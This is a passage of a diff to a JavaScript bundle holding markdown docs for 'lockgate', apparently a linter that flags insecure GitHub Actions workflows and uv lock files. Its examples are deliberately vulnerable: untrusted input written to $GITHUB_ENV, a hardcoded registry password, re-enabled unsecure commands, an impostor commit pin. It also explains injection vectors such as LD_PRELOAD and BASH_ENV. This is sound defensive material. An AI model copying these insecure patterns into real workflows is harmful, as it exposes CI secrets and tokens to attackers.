     "excessive-permissions": "# excessive-permissions\n\nDefault severity: **warning**.\n\nA workflow or job runs with broad or default token permissions.\n\nzizmor id: `excessive-permissions` (its ignore comment is honoured).\n\n## What it reports\n\nIn workflows (`.github/workflows/*.yml`):\n\n1. **Default permissions**: a job with no `permissions:` in a workflow with no top-level\n   `permissions:`. The finding points at the job's key. Reusable-workflow call jobs count too.\n   Workflows triggered only by `workflow_call` are skipped: their token is bounded by the caller's.\n   A job that calls a reusable workflow of this repository (`uses: ./.github/workflows/x.yml`) is\n   skipped when every job of that workflow declares its token (the callee's workflow-level or its\n   own `permissions:`): a called workflow can only lower the token it is passed, so the default\n   never reaches a step.\n2. **`write-all`**: `permissions: write-all` at workflow level (pointing at the `permissions:` key),\n   when at least one job inherits it (has no `permissions:` of its own; the message lists them), or\n   on a job.\n3. **Write scopes at workflow level**: each `<scope>: write` in the top-level `permissions:`, when\n   the workflow has more than one job and at least one job inherits it (has no `permissions:` of its\n   own). The finding points at the scope's line and lists the jobs that inherit it.\n4. **`read-all`**, as a **notice**: on a job, or at workflow level when the workflow has more than\n   one job and at least one inherits it. It cannot write, but reads every scope (security alerts,\n   packages, workflow logs) where a job usually needs `contents: read`.\n\nThe token is read as GitHub computes it: a job's own `permissions:` replaces the workflow's entirely,\nand `permissions: {}` (or `permissions:` with no value) is no access at all.\n\nNot reported: `permissions: {}`, write scopes on a job (that is where they\nbelong), workflow-level write scopes in a one-job workflow or where every job sets its own\npermissions (they are then the job's scopes, or unused), workflow-level `write-all` when every job\nsets its own permissions (a job's block replaces the workflow's entirely, so no job gets it), and\nvalues lockgate cannot read (an expression).\n\nThese follow zizmor's `excessive-permissions` in its default (regular) persona, with one level:\nzizmor grades scopes (High for contents, actions, packages, id-token, pull-requests…, Medium for\nchecks, statuses…); lockgate reports every workflow-level write scope that several jobs inherit,\nbecause the fix is the same for all: move it to the job that needs it. zizmor reports `read-all`\nas Medium; lockgate reports it as a notice, since it grants no write access.\n\nConfidence and persona ([confidence and personas](../confidence.md)), as zizmor's\nexcessive-permissions: a job on the repository's default token is **medium** confidence (a\nrepository setting decides whether that token can write). The **pedantic** persona also sees a\nworkflow-level block that reaches one job or none (write scopes, `write-all`, `read-all`: a\njob-level block in all but name, until a job without its own block is added) and the jobs of a\n`workflow_call`-only workflow without a block (their caller bounds the token), except jobs that\ncall a reusable workflow.\n\n## Why\n\nWithout `permissions:`, the `GITHUB_TOKEN` gets the repository's or organisation's default, which\nfor older repositories and many organisations is read-write on every scope (contents, packages,\nactions, pull requests…). Any step, any third-party action, and any dependency that runs in that job\ncan then push commits, move tags, publish packages or rewrite workflows. A write scope at workflow\nlevel hands the same power to every job, including the test jobs that run pull request code.\n\n## How to fix\n\nAdd a read-only default at the top of the workflow, after `on:`:\n\n```yaml\npermissions:\n  contents: read\n```\n\nand give the job that writes its own block, for example:\n\n```yaml\njobs:\n  release:\n    permissions:\n      contents: write\n      id-token: write\n```\n\nFor `read-all`, replace it with the scopes the job reads (`contents: read` in most cases).\n\n## How to ignore\n\nOn the flagged line (the job key, or the `permissions:` / scope line) or the line above it:\n\n```yaml\njobs:\n  # lockgate: ignore[excessive-permissions] org default is read-only\n  build:\n```\n\nzizmor's `# zizmor: ignore[excessive-permissions]` is honoured too, on any line of the entry the\nfinding points at (the job, the `permissions:` block or the scope); see\n[docs/ignoring.md](../ignoring.md).\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: excessive-permissions\n    path: .github/workflows/ci.yml\n    until: 2027-01-31\n    reason: org default token is read-only; adding blocks in Q1\n```\n\n## Example\n\n```yaml\non: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n```\n\n```\nwarning[excessive-permissions] .github/workflows/ci.yml:3:3\n  Job test has no permissions: block and neither has the workflow, so it runs with the repository's\n  default GITHUB_TOKEN permissions, which can be read-write on every scope; …\n  fix: Add at the top of the workflow (after on:):\n  permissions:\n    contents: read\n```\n",
     "exclude-newer-missing": "# exclude-newer-missing\n\nDefault severity: **warning**.\n\nThe uv project sets no exclude-newer cooldown.\n\n## What it reports\n\nA uv project whose settings (the root `uv.toml` when it exists, else the root `pyproject.toml`'s\n`[tool.uv]`) have no `exclude-newer`, set it to `false`, or set a value uv rejects (`\"1 month\"`:\nuv refuses months and years). An absolute date or timestamp counts as set. When a `uv.toml`\nexists, an `exclude-newer` in `[tool.uv]` has no effect (uv reads only `uv.toml`), and the message\nsays so. Settings in workspace members have no effect either. The finding points at the key, or\nat the `[tool.uv]` header (the `[project]` line when there is none) when it is missing.\n\n## Why\n\n`exclude-newer` makes uv ignore files uploaded in the last N days when it resolves. Most\nmalicious releases are found and removed within days, so a cooldown keeps them out of the lock\nwithout anyone having to notice them. Relative values need uv 0.9.17 or later.\n\n## How to fix\n\n```toml\n[tool.uv]\nexclude-newer = \"7 days\"\nrequired-version = \">=0.9.17\"\n```\n\n(In `uv.toml`, the same keys without the `[tool.uv]` header.) Then run `uv lock`. A package that\nmust move faster gets its own value: `exclude-newer-package = { certifi = \"1 day\" }`.\n\n## How to ignore\n\nA config entry with a reason and an expiry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: exclude-newer-missing\n    path: tools/pyproject.toml\n    reason: throwaway scripts, never deployed\n    until: 2027-01-01\n```\n\nOr `# lockgate: ignore[exclude-newer-missing]` on the `[tool.uv]` line or the line above.\n\n## Example\n\n```\npyproject.toml:9 warning exclude-newer-missing: pyproject.toml sets no exclude-newer, so uv locks\nreleases published minutes ago. Most malicious releases are found and removed within days; a\ncooldown keeps them out of the lock until then.\n```\n",
     "forbidden-uses": "# forbidden-uses\n\nDefault severity: **error**.\n\nAn action or reusable workflow is forbidden by the `workflows.forbidden-uses` policy of `.github/lockgate.yml`.\n\nzizmor id: `forbidden-uses` (its ignore comment `# zizmor: ignore[forbidden-uses]` is honoured).\n\n## What it reports\n\nNothing unless the config sets `workflows.forbidden-uses`. Then every repository `uses:` (steps of\nworkflows and composite actions, reusable-workflow jobs) that matches a `deny` pattern, or, when\n`allow` is given, matches none of its patterns. Local actions (`./…`) and `docker://` images are not\nchecked. Confidence high, persona regular (zizmor: High / High). An error: the policy is the\nrepository's own.\n\nPatterns are zizmor's, so a `zizmor.yml` policy carries over: `owner/repo/sub/path@ref`,\n`owner/repo@ref`, `owner/repo/sub/path`, `owner/repo` (the root action only), `owner/repo/*`\n(anything in the repository), `owner/*`, `*`. Owner and repository compare case-insensitively,\nsubpath and ref exactly. They are not path globs (src/core/glob.ts): `*` stands only for a whole\ncomponent, so `actions/*` can never match another owner such as `actions-rs`. Unlike zizmor, allow\nand deny may be given together; deny wins. A bad pattern, an unknown key or an empty `allow` list\nstops the run with the file and line.\n\n## Why\n\nA repository that decided which actions it trusts needs the decision enforced on every change. The\nconfig is read from the base revision, so a pull request cannot allow its own new action.\n\n## How to fix\n\nUse an allowed action, or after review add it to `allow`:\n\n```yaml\n# .github/lockgate.yml\nworkflows:\n  forbidden-uses:\n    allow: [actions/*, astral-sh/setup-uv, pypa/gh-action-pypi-publish]\n    deny: [actions/create-release]\n```\n\n## How to ignore\n\n```yaml\n      # lockgate: ignore[forbidden-uses] one-off migration job, removed after the release\n      - uses: other/tool@v1\n```\n\n## Example\n\n```\nerror[forbidden-uses] .github/workflows/ci.yml:9:15\n  The action tj-actions/changed-files@v45 is forbidden by this repository's policy: it matches the\n  deny pattern tj-actions/* of workflows.forbidden-uses in .github/lockgate.yml.\n```\n",
     "ghost-file": "# ghost-file\n\nDefault severity: **error**. Online only.\n\nA locked file is no longer listed by its index.\n\n## What it reports\n\nFor each entry this change brings into `uv.lock`, what the package index no longer has:\n\n- the project (404: removed, renamed, or quarantined);\n- the locked version (absent from the index's version list);\n- locked files (by filename), or a file listed with another sha256 than the lock pins.\n\nThe index is asked with the PEP 691 JSON API (PEP 700 `versions`), PyPI's JSON API, or a PEP 503\nHTML page (files only: such pages have no version list).\n\n## Why\n\nDeleting a project or file on PyPI removes its database rows, not the stored files, so the URLs\nin a lock keep downloading, and uv installs from the lock without asking the index: the \"ghost\"\nstays installable. Removals are often malware takedowns, and a file whose hash differs from what\nthe index serves is not the file the index publishes.\n\n## How to fix\n\nFind out why it was removed before installing it again. Then re-resolve or drop it:\n\n```sh\nuv lock --upgrade-package httpx\nuv remove httpx\n```\n\n## How to ignore\n\nA config `ignore:` entry (with `package:`, a reason and `until`), or\n`# lockgate: ignore[ghost-file]` on the line above the package or file in `uv.lock`.\n\n## Example\n\n```\nuv.lock:33 error ghost-file: httpx 0.28.1 on https://pypi.org/simple: 1 of its 2 locked files are\nno longer listed (httpx-0.28.1.tar.gz). Files deleted from an index usually stay downloadable from\nits file host, so uv keeps installing what the lock names; a removal is often a malware takedown.\n```\n",
+    "github-app": "# github-app\n\nDefault severity: **warning**.\n\nactions/create-github-app-token makes a token broader or longer-lived than needed.\n\nzizmor id: `github-app` (its ignore comment is honoured).\n\n## What it reports\n\nactions/create-github-app-token with `skip-token-revoke: true` (error; an expression: warning, low confidence), with `owner:` but no `repositories:`, or with no `permission-*` input.\n\n## Why\n\nThe token then outlives the job, reaches every repository of the owner, or carries every permission the app has.\n\n## How to fix\n\nDrop `skip-token-revoke`, list `repositories:`, and add the `permission-*` inputs the job needs.\n\n## How to ignore\n\nOn the reported line or the line above it: `# lockgate: ignore[github-app] <reason>`, or an `ignore:`\nentry with `rule: github-app` in `.github/lockgate.yml`. zizmor's `# zizmor: ignore[github-app]` is honoured.\n\n## Example\n\n```yaml\nsteps:\n  - uses: actions/create-github-app-token@v2\n    with:\n      app-id: ${{ vars.APP_ID }}\n      private-key: ${{ secrets.APP_KEY }}\n      owner: my-org\n```\n",
+    "github-env": "# github-env\n\nDefault severity: **warning**.\n\nA privileged workflow or a composite action writes to $GITHUB_ENV or $GITHUB_PATH.\n\nzizmor id: `github-env` (its ignore comment is honoured).\n\n## What it reports\n\nA `run:` command (bash, sh, pwsh, cmd; nested `bash -c` included) that redirects output to `$GITHUB_ENV` / `$GITHUB_PATH` (`>>`, `>`), or gives it to `tee`, `Out-File`, `Add-Content` or `Set-Content`, in a workflow triggered by `pull_request_target` or `workflow_run`, and in every composite action. Confidence low, as in zizmor.\n\n## Why\n\nA written `BASH_ENV=`, `LD_PRELOAD=`, `NODE_OPTIONS=` or PATH entry runs code in every later step; in a privileged workflow whatever is written may come from a fork.\n\n## How to fix\n\nPass values through step outputs (`$GITHUB_OUTPUT`) into `env:` instead; call tools by full path instead of extending PATH.\n\n## How to ignore\n\nOn the reported line or the line above it: `# lockgate: ignore[github-env] <reason>`, or an `ignore:`\nentry with `rule: github-env` in `.github/lockgate.yml`. zizmor's `# zizmor: ignore[github-env]` is honoured.\n\n## Example\n\n```yaml\non: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"TITLE=$TITLE\" >> \"$GITHUB_ENV\"\n```\n",
+    "hardcoded-container-credentials": "# hardcoded-container-credentials\n\nDefault severity: **error**.\n\nA container or service has its registry password written in the workflow.\n\nzizmor id: `hardcoded-container-credentials` (its ignore comment is honoured).\n\n## What it reports\n\nA job's `container.credentials.password` or `services.<name>.credentials.password` that is a literal, not an expression. The finding never repeats the password.\n\n## Why\n\nAnyone who can read the repository, its forks or its history can log in to the registry as that account.\n\n## How to fix\n\nRevoke the password, store a new one as a secret, and write `password: ${{ secrets.REGISTRY_PASSWORD }}`.\n\n## How to ignore\n\nOn the reported line or the line above it: `# lockgate: ignore[hardcoded-container-credentials] <reason>`, or an `ignore:`\nentry with `rule: hardcoded-container-credentials` in `.github/lockgate.yml`. zizmor's `# zizmor: ignore[hardcoded-container-credentials]` is honoured.\n\n## Example\n\n```yaml\njobs:\n  a:\n    runs-on: ubuntu-latest\n    container:\n      image: ghcr.io/org/img@sha256:...\n      credentials:\n        username: bot\n        password: hunter2\n```\n",
     "hash-changed": "# hash-changed\n\nDefault severity: **error**.\n\nThe same version from the same source is locked with different artifacts or hashes.\n\n## What it reports\n\nA package whose name, version and source are the same at base and head, but where a file locked\nat both sides (same filename: the sdist or a wheel) has a different digest of the same algorithm.\nThe finding points at that file's line in `uv.lock` and names the file and both digests.\n\nNot reported: new files for the same release (a wheel for a new platform uploaded later), files\nthat are no longer locked, a digest that moves to another algorithm (it cannot be compared byte\nfor byte), and whitespace, ordering or key-order changes of the lock.\n\n## Why\n\nA published file never changes: PyPI refuses to reuse a filename, and a direct URL or path source\nis locked by its hash precisely so that its bytes cannot change unnoticed. A new digest for the\nsame file means the lock was edited by hand, the file at a URL was replaced, or an index served\ndifferent bytes. Each of these is how a tampered package gets installed under a trusted version.\n\n## How to fix\n\nDo not merge until you know why. Restore the previous entry and re-lock:\n\n```sh\ngit checkout <base> -- uv.lock\nuv lock\n```\n\nIf `uv lock` writes the new digest again, the index (or the URL) now serves different bytes: ask\nits owner, and compare with the file you had before.\n\n## How to ignore\n\nA config entry, limited to the package, with a reason and an expiry (a comment in `uv.lock` does\nnot survive the next `uv lock`):\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: hash-changed\n    package: internal-tool\n    reason: our private index rebuilt 1.4.0 after the signing-key rotation (ticket SEC-142)\n    until: 2026-10-01\n```\n\nOr `# lockgate: ignore[hash-changed]` on the file's line or the line above.\n\n## Example\n\n```\nuv.lock:21 error hash-changed: charset-normalizer 3.3.2 from registry https://pypi.org/simple is\nlocked with other bytes for charset_normalizer-3.3.2-py3-none-any.whl: sha256:a1f0c79cbf8d3e64…\nbecame sha256:d121be3103007b41…. A published file never changes, …\n```\n",
     "impostor-commit": "# impostor-commit\n\nDefault severity: **error**. Needs the network (GitHub API); silent offline.\n\nA pinned SHA is not reachable from the action repository's branches or tags.\n\n## What it reports\n\nA `uses:` pinned to a full commit SHA (steps, composite action steps, reusable-workflow jobs) when\nGitHub shows the commit is on none of `owner/repo`'s branches or tags. lockgate checks, in\nzizmor's order: whether the SHA is the tip of a tag or branch; whether it is in the history of the\ndefault branch (`GET /repos/{owner}/{repo}/compare/{default}...{sha}` is `behind` or `identical`);\nthen the same comparison against the other branches and the tags (at most 20 comparisons, and\n300 tags / 300 branches listed). Only a complete search that finds nothing is reported; an\ninconclusive search (a very large repository, a rate limit, the network budget) reports nothing and\nsays so in the run log.\n\n## Why\n\nGitHub serves the commits of every fork through the parent repository: anyone can fork\n`actions/checkout`, push a malicious commit to the fork, and `uses: actions/checkout@<that sha>`\nruns it, under the trusted name. Such an \"impostor commit\" looks exactly like a proper pin in review.\nA SHA that no branch or tag of the real repository contains was never published by its owners.\n\n## How to fix\n\nPin a commit the repository itself published, normally a release tag's commit:\n\n```sh\ngh api repos/actions/checkout/tags --jq '.[] | .name + \" \" + .commit.sha' | head\n```\n\n```yaml\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n```\n\nThen find out how the impostor SHA got into the workflow: treat it as a possible attack.\n\n## How to ignore\n\nOn the `uses:` line or the line above it (only for a commit you verified, such as one on a branch\nthat was deleted after a merge):\n\n```yaml\n      # lockgate: ignore[impostor-commit] squash-merged PR commit, verified by @maintainer\n      - uses: my-org/action@0c45773b623bea8c8e75f6c82b208c3cf94ea4f9\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: impostor-commit\n    path: .github/workflows/deploy.yml\n    until: 2026-12-31\n    reason: commit verified with the vendor, repin planned\n```\n\n## Example\n\n```yaml\non: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@ffffffffffffffffffffffffffffffffffffffff\n```\n\n```\nerror[impostor-commit] .github/workflows/ci.yml:8:15\n  Commit ffffffffffff is on no branch or tag of actions/checkout: GitHub serves commits of any fork\n  through the parent repository, so this pin can run code the owners never published.\n```\n",
     "insecure-commands": "# insecure-commands\n\nDefault severity: **error**; **warning** when the value is not written out.\n\n`ACTIONS_ALLOW_UNSECURE_COMMANDS` re-enables the `set-env` and `add-path` workflow commands.\n\nzizmor id: `insecure-commands` (its ignore comment `# zizmor: ignore[insecure-commands]` is honoured).\n\n## What it reports\n\n- `ACTIONS_ALLOW_UNSECURE_COMMANDS` set true in the `env:` of the workflow, of a job or of a step\n  (workflow steps of either kind, and composite actions' steps): YAML `true`, or a string that C#'s\n  `bool.Parse` (which the runner uses) reads as true: `true` in any case, with spaces around. `'1'`,\n  `yes` and `false` are not true there and are not reported. Error, high confidence.\n- with the **auditor** persona only, as in zizmor: the variable set from an expression\n  (`${{ inputs.legacy }}`), or an `env:` that is one expression (`env: ${{ fromJSON(vars.ENV) }}`),\n  which may set it. Warning, low confidence.\n- not in zizmor: a `run:` line that writes `ACTIONS_ALLOW_UNSECURE_COMMANDS=true` to `$GITHUB_ENV`,\n  which turns the commands on for the later steps. Warning, medium confidence (a line of script read\n  as text; shell comments are skipped).\n\n`ACTIONS_ALLOW_USE_UNSECURE_NODE_VERSION` is another variable and is not reported.\n\n## Why\n\nGitHub disabled the `::set-env::` and `::add-path::` commands in 2020 (CVE-2020-15228): the runner\nread them from anything a step printed, so any untrusted text that reached a log (a pull request\ntitle, an issue body, a dependency's output) could set `LD_PRELOAD`, `NODE_OPTIONS` or `PATH` for the\nsteps after it and run code with the job's token and secrets. The variable turns that back on.\n\n## How to fix\n\nDelete the variable, and update the action or script that still needs it: `$GITHUB_ENV` and\n`$GITHUB_PATH` files replace the old commands, and every maintained action uses them.\n\n```yaml\n      - run: echo \"/opt/tool/bin\" >> \"$GITHUB_PATH\"\n```\n\n## How to ignore\n\n`# lockgate: ignore[insecure-commands]` on the line of the variable or on the line above it, or a\nconfig entry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: insecure-commands\n    path: .github/workflows/legacy.yml\n    until: 2027-01-31\n    reason: the legacy action is replaced this quarter\n```\n\n## Example\n\n```yaml\njobs:\n  build:\n    runs-on: ubuntu-latest\n    env:\n      ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n```\n\n```\nerror[insecure-commands] .github/workflows/legacy.yml:5:7\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true in the env: of job build turns back on the ::set-env:: and\n  ::add-path:: commands GitHub disabled: any text a step prints (a log of a pull request title, a\n  tool or dependency output) can then set environment variables and PATH for the steps after it.\n  fix: Delete ACTIONS_ALLOW_UNSECURE_COMMANDS and update the action or script that needs it to write\n  to $GITHUB_ENV and $GITHUB_PATH.\n```\n",
@@ -34935,14 +34956,17 @@ const RULE_DOCS = {
     "lock-missing": "# lock-missing\n\nDefault severity: **error**.\n\nA change deletes the uv.lock of a uv project that has dependencies.\n\n## What it reports\n\nA change that deletes the `uv.lock` of a uv project (workspace root) that declares dependencies\n(`project.dependencies`, `optional-dependencies`, `[dependency-groups]`, `tool.uv.dev-dependencies`,\nor dynamic dependencies) in its root or a member. The finding points at the `dependencies` line of\nthe first pyproject that declares some.\n\nA project counts as a uv project only as uv itself would use one: it has a `uv.lock` beside its\nroot `pyproject.toml` (its workspace members come with it), or had one at the base revision.\n`[tool.uv]`, a `uv.toml` or a workflow step such as `uv run pytest tests/plugin` do not make a\ndirectory a uv project: a library may choose not to commit a lock, and a test folder named in a\ncommand is not a project. An empty `uv.lock` beside a project of another tool (`[tool.poetry]`,\n`[tool.pdm]`, `[tool.pixi]`, a Poetry or PDM build backend, `poetry.lock`, `pdm.lock`, `Pipfile`)\nis a stray file, and that project gets no uv findings at all. A lock that exists but cannot be read\nis an `invalid-file` finding instead.\n\n## Why\n\nWithout a lock every install resolves afresh: the versions, files and indexes are whatever they are\nthat day. A release published an hour ago (possibly malicious) goes straight into CI, nothing in the\npull request shows what will be installed, and two runs of the same commit can install different\ncode.\n\n## How to fix\n\nCreate the lock, commit it, and install from it:\n\n```sh\nuv lock                      # or: uv lock --directory path/to/project\ngit add uv.lock\nuv sync --locked             # in CI: fails if uv.lock does not match pyproject.toml\n```\n\n## How to ignore\n\n`# lockgate: ignore[lock-missing]` on the `dependencies` line or the line above:\n\n```toml\n[project]\nname = \"scratch\"\n# lockgate: ignore[lock-missing] throwaway example, never installed in CI\ndependencies = [\"httpx\"]\n```\n\nOr a config entry with a reason and an expiry:\n\n```yaml\nignore:\n  - rule: lock-missing\n    path: examples/**\n    reason: examples are installed by readers, not by CI\n    until: 2027-01-01\n```\n\n## Example\n\n```\npyproject.toml:5 error lock-missing: This uv project declares dependencies but has no uv.lock, so\nevery install resolves afresh: …\nfix: Run `uv lock`, commit uv.lock, and install with `uv sync --locked`.\n```\n",
     "lock-out-of-sync": "# lock-out-of-sync\n\nDefault severity: **error** (a **notice** for what cannot be decided without uv).\n\nuv.lock does not match pyproject.toml: `uv sync --locked` would fail.\n\n## What it reports\n\nuv records every input of a resolution in `uv.lock`, and `uv lock --check` / `uv sync --locked`\n(and `uv run --locked`) refuse a lock whose recorded inputs differ from what the project now says.\nlockgate repeats those checks statically, without running uv, for every uv project with a lock:\n\n- the workspace members (`[manifest] members`), whether each is virtual (no `[build-system]`, or\n  `tool.uv.package = false`) or editable, and its version (static versions; a switch between a\n  static and a dynamic version);\n- each member's `project.dependencies` and `project.optional-dependencies` (`[package.metadata]\n  requires-dist`), its extras (`provides-extras`), and its dependency groups (`requires-dev`, with\n  `include-group` flattened, `[tool.uv.dependency-groups]` requires-python markers, and the legacy\n  `tool.uv.dev-dependencies` as `dev`), after `[tool.uv.sources]` is applied as uv applies it\n  (the member's entry wins over the root's; git, url, path, directory, editable, index, workspace;\n  sources scoped by marker, extra or group);\n- `requires-python` (the intersection of the members' ranges);\n- root `constraint-dependencies`, `override-dependencies`, `exclude-dependencies`,\n  `build-constraint-dependencies`, the groups of a workspace root without `[project]`,\n  `dependency-metadata`;\n- the `[options]` uv compares: `resolution`, `prerelease`, `fork-strategy`, `exclude-newer`\n  (relative spans field by field: `\"7 days\"` is `P7D`, `\"1 week\"` is `P1W`, and they differ) and\n  `exclude-newer-package` (as a map, `false` included);\n- `environments`, `required-environments`, `conflicts`;\n- when any index is configured: that every registry the lock takes packages from is still one.\n\nRequirements are compared as uv compares them: as sets (order and duplicates do not matter),\nnames PEP 503-normalized, extras sorted, specifiers sorted (`1.0` equals `1.0.0`), and markers by\nmeaning within the lock's `requires-python` (`python_version < '3.11'` equals\n`python_full_version < '3.11'`). Settings come from the workspace root only, from its `uv.toml`\nwhen there is one (uv then ignores `[tool.uv]`).\n\nThe error points at the pyproject line of the requirement or setting that differs, or at the\n`uv.lock` line when the lock has an entry the project no longer declares.\n\nA **notice** with the same rule id says what lockgate cannot decide statically, and why: dynamic\n`dependencies` or `optional-dependencies` (uv asks the build backend), a path source outside the\nrepository (uv reads its `pyproject.toml`), a plain-date `exclude-newer` (its meaning depends on the\ntime zone of the machine running uv), a difference whose meaning changed between uv versions (an\nadded `exclude-newer-package = false`, the pre-release default), a marker comparison lockgate does\nnot model. A notice never claims the lock is out of sync.\n\n## Why\n\nA lock that does not match its project is not what CI installs: `uv sync --locked` fails, and a\nplain `uv sync` or `uv run` silently re-resolves, so the versions installed are not the ones the\npull request shows and reviewed. Hand-edited or partially regenerated locks (a Dependabot update\nmade without the project's settings, a merge that kept one side's lock) are the usual cause; a\nchanged `exclude-newer` that was never re-locked means the cooldown the project declares is not\nthe one its lock was built with.\n\n## How to fix\n\nRe-lock and commit the lock, then install from it in CI:\n\n```sh\nuv lock                      # or: uv lock --directory path/to/project\ngit add uv.lock\nuv sync --locked             # in CI: fails if uv.lock does not match pyproject.toml\n```\n\nFor a notice, let CI run `uv lock --check` (or `uv sync --locked`), which decides the question\nlockgate cannot.\n\n## How to ignore\n\n`# lockgate: ignore[lock-out-of-sync]` on the reported line or the line above:\n\n```toml\n[project]\ndependencies = [\n    # lockgate: ignore[lock-out-of-sync] re-locked by the release job\n    \"httpx>=0.28\",\n]\n```\n\nOr a config entry with a reason and an expiry:\n\n```yaml\nignore:\n  - rule: lock-out-of-sync\n    path: examples/legacy/**\n    reason: example project, locked by its own CI\n    until: 2027-01-01\n```\n\n## Example\n\n```\npyproject.toml:6 error lock-out-of-sync: uv.lock does not match requires-dist of `demo`: the\nproject has `httpx>=0.28`, uv.lock records `httpx>=0.27`. `uv sync --locked` and `uv lock --check`\nwould fail, and a plain `uv sync` would re-lock silently.\nfix: Run `uv lock` and commit the updated uv.lock (CI should install with `uv sync --locked`).\n\nuv.lock:1745 notice lock-out-of-sync: lockgate cannot tell statically whether uv.lock matches\nmetadata of `werkzeug`: uv re-reads `../werkzeug` (outside the repository) to check this package's\nmetadata; lockgate cannot see it.\n```\n",
     "malicious-package": "# malicious-package\n\nDefault severity: **error**.\n\nAn introduced package version is listed as malicious in an OSV advisory.\n\n## What it reports\n\nA version locked from PyPI that the change introduces (every locked version in a full audit, with\nno base) and that [OSV](https://osv.dev) lists in a malicious-code advisory: a `MAL-` record of\nOpenSSF's [malicious-packages](https://github.com/ossf/malicious-packages) feed, or a record whose\ndata marks the code malicious (`database_specific.malicious-packages-origins`, or CWE-506\n\"Embedded Malicious Code\", as GitHub's malware advisories have it). The finding points at the\npackage's `[[package]]` line in `uv.lock` and names the advisory, its summary and its date.\n\nlockgate asks OSV's `POST /v1/querybatch` about the exact (name, version) pairs, then\n`GET /v1/vulns/{id}` for each advisory that matched. Only packages locked from `pypi.org` are\nasked: a package of the same name on another index is another package. The OSV base URL can point\nat a mirror (`advisories.url` in the config).\n\nThis rule also reports, in **one notice**, the introduced versions the advisory check could not\nlook at: offline, OSV unreachable or answering with errors, the network budget spent. A gate that\ncould not check says so; it never passes in silence.\n\n## Why\n\nA malicious release runs its code when it is installed or imported: it reads environment\nvariables, CI tokens, cloud credentials and SSH keys and sends them away. The cooldown stops a\nrelease too young to have been looked at; this rule stops one that has been looked at and found\nmalicious.\n\n## How to fix\n\nRemove the package: drop the dependency that brings it in and run `uv lock` (`uv remove NAME` for a\ndirect dependency). Then treat every machine and CI runner that installed it as exposed: rotate the\nsecrets it could read (CI tokens, cloud credentials, SSH keys, `.env` files).\n\nFor the \"did not run\" notice: run lockgate online. A nightly full audit also catches an advisory\npublished after the merge (see [docs/github-action.md](../github-action.md), \"Nightly advisory\naudit\").\n\n## How to ignore\n\nA false listing (a name taken over after the malicious release was removed, say) is set aside by\nadvisory id, with a reason and an expiry; an expired entry is reported and no longer waives:\n\n```yaml\nadvisories:\n  ignore:\n    - id: MAL-2026-15859\n      reason: the listed release was removed; we lock 2.0 from the new owner\n      until: 2027-01-31\n```\n\nA waived finding stays in the report's waived list. `rules: { malicious-package: off }` turns the\nrule off, the \"did not run\" notice included.\n\n## Example\n\n```\nuv.lock:88 error malicious-package: 0requests 0.0.1 is listed as malicious: MAL-2026-15859\n(2026-09-03): Malicious code in 0requests (PyPI). Installing it runs its code, so any machine or CI\njob that installed it may have leaked what it could read.\n```\n",
+    "misfeature": "# misfeature\n\nDefault severity: **notice**.\n\nA workflow uses setup-python pip-install, shell: cmd, or a shell GitHub does not know.\n\nzizmor id: `misfeature` (its ignore comment is honoured).\n\n## What it reports\n\nactions/setup-python with `pip-install:`; `shell: cmd` on a step or in `defaults.run`; and, for the auditor persona only, a shell that is none of bash, sh, pwsh, powershell, python, cmd.\n\n## Why\n\npip-install installs unhashed packages outside any lock file; cmd.exe's quoting and `%VAR%` expansion invite injection and hide errors.\n\n## How to fix\n\nInstall from the lock file in a `run:` step (`uv sync --locked`); use `shell: pwsh` on Windows.\n\n## How to ignore\n\nOn the reported line or the line above it: `# lockgate: ignore[misfeature] <reason>`, or an `ignore:`\nentry with `rule: misfeature` in `.github/lockgate.yml`. zizmor's `# zizmor: ignore[misfeature]` is honoured.\n\n## Example\n\n```yaml\nsteps:\n  - uses: actions/setup-python@v6\n    with:\n      pip-install: requests\n```\n",
     "new-index": "# new-index\n\nDefault severity: **warning**.\n\nA new package index appears in pyproject.toml or uv.lock.\n\n## What it reports\n\nA package index URL that the project did not use at base:\n\n- declared at head in the workspace root's `[[tool.uv.index]]`, `index-url`, `extra-index-url` or\n  `find-links` (a root `uv.toml` replaces the root's `[tool.uv]`, as in uv), or in a member's\n  `[[tool.uv.index]]`: the finding points at the `url` line;\n- used by the head lock (`source = { registry = \"…\" }`) without being declared: the finding points\n  at the first `[[package]]` that uses it.\n\nAn index declared and used by the lock is reported once, at the declaration. `https://pypi.org/simple`\nis never reported (uv uses it without any setting). In a full audit (no base), every other index\nis reported. Credentials in URLs are removed from messages.\n\nOnline, lockgate does not contact an index that only the pull request names (see\n[cooldown-unverified](cooldown-unverified.md)): its packages stay unverified until the index is\nmerged or named by the `index-url` input.\n\n## Why\n\nWhoever runs an index decides what code it serves. An index that is not `explicit` takes part in\nevery resolution, so a package name that exists on it and on PyPI can be served from the wrong one\n(dependency confusion). An index that appears only in the lock was added by something outside the\nproject settings (an environment variable, a user `uv.toml`) and will not be reproduced by the next\n`uv lock`.\n\n## How to fix\n\nIf only some packages need the index, make it explicit and pin them to it:\n\n```toml\n[[tool.uv.index]]\nname = \"pytorch-cpu\"\nurl = \"https://download.pytorch.org/whl/cpu\"\nexplicit = true\n\n[tool.uv.sources]\ntorch = { index = \"pytorch-cpu\" }\n```\n\nthen run `uv lock`. If the index is not needed, remove it and run `uv lock`.\n\n## How to ignore\n\n`# lockgate: ignore[new-index]` on the `url =` line or the line above:\n\n```toml\n[[tool.uv.index]]\nname = \"corp\"\n# lockgate: ignore[new-index] company mirror, approved in SEC-88\nurl = \"https://pypi.corp.example/simple\"\n```\n\nOr a config entry with a reason and an expiry:\n\n```yaml\nignore:\n  - rule: new-index\n    path: pyproject.toml\n    reason: company mirror, approved in SEC-88\n    until: 2027-01-01\n```\n\n## Example\n\n```\npyproject.toml:12 warning new-index: https://mirror.example.com/simple is a new package index for\nthis project ([[tool.uv.index]] 